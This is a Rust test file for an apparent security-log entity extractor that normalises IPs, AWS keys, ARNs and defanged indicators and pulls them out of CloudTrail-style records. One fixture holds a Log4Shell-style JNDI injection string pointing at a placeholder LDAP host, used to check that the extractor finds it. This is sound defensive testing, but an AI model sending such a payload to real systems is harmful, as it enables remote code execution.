use std::sync::Arc;

use arrow::array::{
    ArrayRef, Int32Array, Int32Builder, ListBuilder, MapBuilder, RecordBatch, StringArray,
    StringBuilder, StructArray, StructBuilder,
};
use arrow::datatypes::{DataType, Field, Fields};
use proptest::prelude::*;

use super::extract::{self, Found};
use super::*;
use crate::domain::lake::{Source, SourceVersion, documented_schema};

use EntityType::*;

fn parsed(kind: EntityType, text: &str) -> String {
    Entity::parse(kind, text).unwrap().value
}

#[test]
fn values_have_one_spelling() {
    for (kind, text, normal) in [
        (Ip, " 192[.]0[.]2[.]1 ", "192.0.2.1"),
        (Ip, "2001:0DB8:0:0::1", "2001:db8::1"),
        (Ip, "[2001:db8::1]", "2001:db8::1"),
        (Ip, "075.050.255.67", "075.050.255.67"),
        (Cidr, "10.1.2.3/8", "10.0.0.0/8"),
        (Cidr, "2001:db8::1/32", "2001:db8::/32"),
        (Cidr, "0.0.0.0/0", "0.0.0.0/0"),
        (Account, "1234-5678", "000012345678"),
        (AccessKey, "akiaiosfodnn7example", "AKIAIOSFODNN7EXAMPLE"),
        (Domain, "Host.Example[.]COM.", "host.example.com"),
        (
            Url,
            "hxxps://Example[.]com/Path",
            "https://example.com/Path",
        ),
        (
            Hash,
            "D41D8CD98F00B204E9800998ECF8427E",
            "d41d8cd98f00b204e9800998ecf8427e",
        ),
        (
            Role,
            "ARN:AWS:IAM::111122223333:role/App/Name",
            "arn:aws:iam::111122223333:role/App/Name",
        ),
        (Principal, "aidacKCEVSQ6C2EXAMPLE", "AIDACKCEVSQ6C2EXAMPLE"),
        (Principal, "Alice", "Alice"),
        (Resource, "s3://bucket", "bucket"),
        (Resource, "s3://bucket/a/b", "arn:aws:s3:::bucket/a/b"),
        (Resource, "arn:aws:s3:::bucket", "bucket"),
        (
            Resource,
            "arn:aws:ec2:us-east-1:111122223333:instance/i-0123456789abcdef0",
            "i-0123456789abcdef0",
        ),
        (Resource, "I-0123456789ABCDEF0", "i-0123456789abcdef0"),
    ] {
        assert_eq!(parsed(kind, text), normal, "{kind} {text}");
    }
}

#[test]
fn what_does_not_fit_is_refused_with_an_example() {
    for (kind, text) in [
        (Ip, "300.1.1.1"),
        (Ip, "1.2.3"),
        (Cidr, "10.0.0.0/33"),
        (Account, "12x"),
        (Account, "1234567890123"),
        (AccessKey, "not a key"),
        (Domain, "no domain"),
        (Domain, "1.2.3.4"),
        (Url, "example.com"),
        (Hash, "abc"),
    ] {
        let error = Entity::parse(kind, text).unwrap_err().to_string();
        assert!(error.contains(text) && error.contains("is not"), "{error}");
    }
    assert_eq!(Entity::guess("  "), Err(EntityError::Empty));
    let long = "x".repeat(LONGEST_VALUE + 1);
    assert_eq!(
        Entity::guess(&long),
        Err(EntityError::TooLong(LONGEST_VALUE + 1))
    );
}

#[test]
fn a_bare_value_tells_its_type() {
    for (text, kind) in [
        ("198.51.100.7", Ip),
        ("2001:db8::1", Ip),
        ("10.0.0.0/8", Cidr),
        ("AKIAIOSFODNN7EXAMPLE", AccessKey),
        ("AIDACKCEVSQ6C2EXAMPLE", Principal),
        ("AROACKCEVSQ6C2EXAMPLE:session", Session),
        ("arn:aws:iam::111122223333:user/alice", Principal),
        ("arn:aws:iam::111122223333:role/admin", Role),
        (
            "arn:aws:sts::111122223333:assumed-role/admin/alice",
            Session,
        ),
        ("arn:aws:s3:::bucket/key", Resource),
        ("arn:aws:lambda:us-east-1:111122223333:function:f", Resource),
        (
            "arn:aws:securityhub:us-east-1:111122223333:finding/1",
            Finding,
        ),
        ("111122223333", Account),
        ("i-0123456789abcdef0", Resource),
        ("snap-041993b54a9b3af6f", Resource),
        ("example-customer-exports-4ee7f7", Resource),
        ("s3://example", Resource),
        ("metrics-b6fdca.example.org", Domain),
        ("https://example.org/x", Url),
        ("d41d8cd98f00b204e9800998ecf8427e", Hash),
        ("curl/8.8.0", UserAgent),
        ("Mozilla/5.0 (X11; Linux x86_64)", UserAgent),
        ("alice", Principal),
        ("alice@example.com", Principal),
    ] {
        assert_eq!(Entity::guess(text).unwrap().kind, kind, "{text}");
    }
}

#[test]
fn every_type_is_read_back_from_its_name() {
    for kind in EntityType::ALL {
        assert_eq!(kind.name().parse(), Ok(kind));
    }
    let error = "acces-key".parse::<EntityType>().unwrap_err().to_string();
    assert!(error.contains("access-key"), "{error}");
}

#[test]
fn the_table_is_read_both_ways() {
    assert!(paths::rule("src_endpoint.ip").can_name(Ip));
    assert!(paths::rule("src_endpoint.ip").can_name(Cidr));
    assert!(!paths::rule("src_endpoint.ip").can_name(AccessKey));
    assert!(paths::rule("evidences.actor.src_endpoint.ip").can_name(Ip));
    assert!(paths::rule("session.issuer").can_name(Role));
    assert!(paths::rule("actor.user.uid").can_name(Session));
    assert!(!paths::rule("metadata.version").can_name(Ip));
    assert!(paths::rule("something.of.a.stranger").can_name(Hash));
    // Every type has a place of its own in the documented tables.
    for kind in EntityType::ALL {
        let has_place = paths_of_all_tables()
            .iter()
            .any(|path| paths::rule(path).can_name(kind));
        assert!(has_place, "{kind}");
    }
}

/// Every text of every documented table.
fn paths_of_all_tables() -> Vec<String> {
    fn walk(path: &str, data_type: &DataType, found: &mut Vec<String>) {
        match data_type {
            DataType::Struct(fields) => fields
                .iter()
                .for_each(|f| walk(&format!("{path}.{}", f.name()), f.data_type(), found)),
            DataType::List(element) => walk(path, element.data_type(), found),
            DataType::Utf8 | DataType::Map(..) => found.push(path.to_owned()),
            _ => {}
        }
    }
    let mut found = Vec::new();
    for version in SourceVersion::ALL {
        for source in Source::ALL {
            for field in documented_schema(source, version)
                .iter()
                .flat_map(|s| s.fields())
            {
                walk(field.name(), field.data_type(), &mut found);
            }
        }
    }
    found
}

fn text_column(name: &str, value: &str) -> (String, ArrayRef) {
    (
        name.to_owned(),
        Arc::new(StringArray::from(vec![Some(value)])) as ArrayRef,
    )
}

fn record(fields: Vec<(&str, ArrayRef)>) -> ArrayRef {
    let fields: Vec<(Arc<Field>, ArrayRef)> = fields
        .into_iter()
        .map(|(name, array)| {
            let field = Field::new(name, array.data_type().clone(), true);
            (Arc::new(field), array)
        })
        .collect();
    Arc::new(StructArray::from(fields))
}

fn text(value: &str) -> ArrayRef {
    Arc::new(StringArray::from(vec![value]))
}

fn observables(values: &[(&str, &str, i32)]) -> ArrayRef {
    let fields = Fields::from(vec![
        Field::new("name", DataType::Utf8, true),
        Field::new("value", DataType::Utf8, true),
        Field::new("type_id", DataType::Int32, true),
    ]);
    let mut list = ListBuilder::new(StructBuilder::from_fields(fields, values.len()));
    for (name, value, type_id) in values {
        let one = list.values();
        one.field_builder::<StringBuilder>(0)
            .unwrap()
            .append_value(name);
        one.field_builder::<StringBuilder>(1)
            .unwrap()
            .append_value(value);
        one.field_builder::<Int32Builder>(2)
            .unwrap()
            .append_value(*type_id);
        one.append(true);
    }
    list.append(true);
    Arc::new(list.finish())
}

fn unmapped(values: &[(&str, &str)]) -> ArrayRef {
    let mut map = MapBuilder::new(None, StringBuilder::new(), StringBuilder::new());
    for (key, value) in values {
        map.keys().append_value(key);
        map.values().append_value(value);
    }
    map.append(true).unwrap();
    Arc::new(map.finish())
}

fn found_in(columns: Vec<(String, ArrayRef)>) -> Vec<Found> {
    let batch = RecordBatch::try_from_iter(columns).unwrap();
    extract::row(&batch, &[], 0)
}

fn names(found: &[Found]) -> Vec<String> {
    found.iter().map(|found| found.entity.to_string()).collect()
}

#[test]
fn a_row_is_taken_apart_observables_first_and_duplicates_merged() {
    let actor = record(vec![(
        "user",
        record(vec![
            (
                "uid",
                text("arn:aws:sts::111122223333:assumed-role/app/alice"),
            ),
            ("uid_alt", text("AROACKCEVSQ6C2EXAMPLE:alice")),
            ("credential_uid", text("ASIAIOSFODNN7EXAMPLE")),
        ]),
    )]);
    let request = record(vec![(
        "data",
        text(
            r#"{"bucketName":"example-bucket","key":"a/b.csv","x":{"sourceIPAddress":"198.51.100.7"}}"#,
        ),
    )]);
    let message = "User: arn:aws:iam::444455556666:user/bob is not authorized on resource: arn:aws:s3:::example-bucket.";
    let response = record(vec![("message", text(message))]);
    let api = record(vec![("request", request), ("response", response)]);
    let found = found_in(vec![
        text_column("class_name", "API Activity"),
        ("actor".to_owned(), actor),
        ("api".to_owned(), api),
        (
            "src_endpoint".to_owned(),
            record(vec![("ip", text("198.51.100.7"))]),
        ),
        (
            "unmapped".to_owned(),
            unmapped(&[
                (
                    "responseElements.credentials.accessKeyId",
                    "ASIAZZZZZZZZ7EXAMPLE",
                ),
                (
                    "responseElements.credentials.sessionToken",
                    "AKIAIOSFODNN7NOTTHIS",
                ),
                ("recipientAccountId", "111122223333"),
            ]),
        ),
        (
            "observables".to_owned(),
            observables(&[
                ("src_endpoint.ip", "198.51.100.7", 2),
                ("", "host.example.com", 1),
            ]),
        ),
    ]);
    assert_eq!(
        names(&found),
        [
            "ip 198.51.100.7",
            "domain host.example.com",
            "session arn:aws:sts::111122223333:assumed-role/app/alice",
            "role arn:aws:iam::111122223333:role/app",
            "account 111122223333",
            "session AROACKCEVSQ6C2EXAMPLE:alice",
            "principal AROACKCEVSQ6C2EXAMPLE",
            "access-key ASIAIOSFODNN7EXAMPLE",
            "resource arn:aws:s3:::example-bucket/a/b.csv",
            "resource example-bucket",
            "principal arn:aws:iam::444455556666:user/bob",
            "account 444455556666",
            "access-key ASIAZZZZZZZZ7EXAMPLE",
        ]
    );
    assert_eq!(
        found[0].paths,
        ["src_endpoint.ip", "api.request.data.x.sourceIPAddress"]
    );
    assert_eq!(found[1].paths, ["observables[2].value"]);
    assert_eq!(
        found.last().unwrap().paths,
        ["unmapped['responseElements.credentials.accessKeyId']"]
    );
}

#[test]
fn a_raw_record_is_read_by_the_names_of_its_fields() {
    let record = serde_json::json!({
        "eventSource": "ec2.amazonaws.com",
        "requestParameters": {
            "createVolumePermission": {"add": {"items": [{"userId": "098797384747"}]}},
            "snapshotId": "snap-041993b54a9b3af6f",
            "name": "a-trail"
        },
        "sourceIPAddress": "075.050.255.67",
        "userAgent": "tool ${jndi:ldap://203.0.113.9/a}",
        "userIdentity": {"principalId": "AIDACKCEVSQ6C2EXAMPLE", "userName": "alice",
            "sessionContext": {"sessionIssuer": {"userName": "Admin"}}}
    });
    let mut all = names(&extract::json(&record));
    all.sort();
    assert_eq!(
        all,
        [
            "account 098797384747",
            "ip 075.050.255.67",
            "ip 203.0.113.9",
            "principal AIDACKCEVSQ6C2EXAMPLE",
            "principal alice",
            "resource a-trail",
            "resource snap-041993b54a9b3af6f",
            "role Admin",
            "url ldap://203.0.113.9/a",
            "user-agent tool ${jndi:ldap://203.0.113.9/a}",
        ]
    );
}

#[test]
fn hostile_rows_have_bounds() {
    let many = (0..5_000)
        .map(|n| format!("10.{}.{}.{}", n / 250 / 250, n / 250 % 250, n % 250))
        .collect::<Vec<_>>()
        .join(" ");
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let nested = (0..200).fold("\"198.51.100.7\"".to_owned(), |inner, _| {
        format!("[{inner}]")
    });
    let found = found_in(vec![
        text_column("a", &many),
        text_column("b", &deep),
        text_column("c", &nested),
        text_column("d", &"x".repeat(3 << 20)),
        ("n".to_owned(), Arc::new(Int32Array::from(vec![1]))),
    ]);
    assert!(
        found.len() <= extract::MOST_ENTITIES && found.len() > 100,
        "{}",
        found.len()
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_text_makes_it_panic(value in ".{0,200}", key in ".{0,60}", name in "[a-z_.]{0,30}") {
        for kind in EntityType::ALL {
            if let Ok(entity) = Entity::parse(kind, &value) {
                // What is normal stays as it is.
                let again = Entity::parse(kind, &entity.value);
                prop_assert_eq!(again.map(|again| again.value), Ok(entity.value));
            }
        }
        let _ = Entity::guess(&value);
        let found = found_in(vec![
            text_column(&format!("a{name}"), &value),
            ("unmapped".to_owned(), unmapped(&[(&key, &value)])),
            ("observables".to_owned(), observables(&[(&name, &value, 2), (&key, &value, 10)])),
        ]);
        prop_assert!(found.iter().all(|found| !found.entity.value.is_empty()));
    }

    #[test]
    fn no_json_makes_it_panic(value in "[\\[\\]{}\":,a-zA-Z0-9./ -]{0,300}") {
        let document = format!("{{\"arn\":{},\"x\":[{value}]}}", serde_json::json!(value));
        found_in(vec![text_column("unknown", &value), text_column("other", &document)]);
    }
}
